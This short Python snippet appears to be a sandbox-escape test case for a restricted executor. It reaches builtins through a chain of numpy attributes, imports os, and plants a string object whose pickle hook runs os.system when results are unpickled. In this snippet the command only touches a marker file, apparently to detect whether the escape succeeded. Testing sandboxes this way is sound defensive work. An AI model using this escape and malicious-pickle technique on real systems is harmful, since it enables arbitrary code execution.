# attempts: append an object whose __reduce__ runs os.system to planner.events (executes wherever results are unpickled)
# effect: exec
# needs: worker
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
osm = imp('os')
Evil = B.type('EvilStr', (B.str,), {'__reduce__': B.eval("lambda self: (system, ('touch @@MARKER_DIR@@/events_unpickled',))", {'system': osm.system})})
planner.events.append(Evil('looks like a normal event'))
